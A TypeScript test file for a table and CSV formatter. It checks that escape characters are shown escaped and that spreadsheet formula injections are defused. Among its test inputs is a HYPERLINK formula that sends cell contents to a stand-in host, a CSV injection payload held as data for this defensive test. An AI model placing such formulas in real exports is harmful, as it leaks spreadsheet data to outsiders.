/** Tables people read: one line per row whatever the values hold. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csv, renderTable } from './format.ts';

test('a value with a newline, a tab or an escape character stays on its row, shown escaped', () => {
  const out = renderTable(
    ['FEATURE', 'COST'],
    [
      ['line1\nline2', '$1.00'],
      ['a\tb\u001b[31m', '$2.00'],
    ],
    [false, true],
  );
  const lines = out.split('\n');
  assert.equal(lines.length, 4, out);
  assert.match(lines[2] ?? '', /^line1\\nline2 +\$1\.00$/);
  assert.match(lines[3] ?? '', /^a\\tb\\u001b\[31m +\$2\.00$/);
});

test('CSV: a caller-written value a spreadsheet would run as a formula is defused; numbers stay numbers', () => {
  const out = csv(
    [
      { feature: '=HYPERLINK("http://x.example/?"&A1,"open")', cost_usd: '-1.250000' },
      { feature: '+SUM(A1:A9)', cost_usd: '+3' },
      { feature: '@cmd', cost_usd: '1e-3' },
      { feature: '-x', cost_usd: '0.5' },
      { feature: '\tTAB', cost_usd: -2 },
      { feature: 'plain, "quoted"', cost_usd: null },
    ],
    ['feature', 'cost_usd'],
  );
  assert.deepEqual(out.split('\n'), [
    'feature,cost_usd',
    `"'=HYPERLINK(""http://x.example/?""&A1,""open"")",-1.250000`,
    "'+SUM(A1:A9),+3",
    "'@cmd,1e-3",
    "'-x,0.5",
    "'\tTAB,-2",
    '"plain, ""quoted""",',
  ]);
});
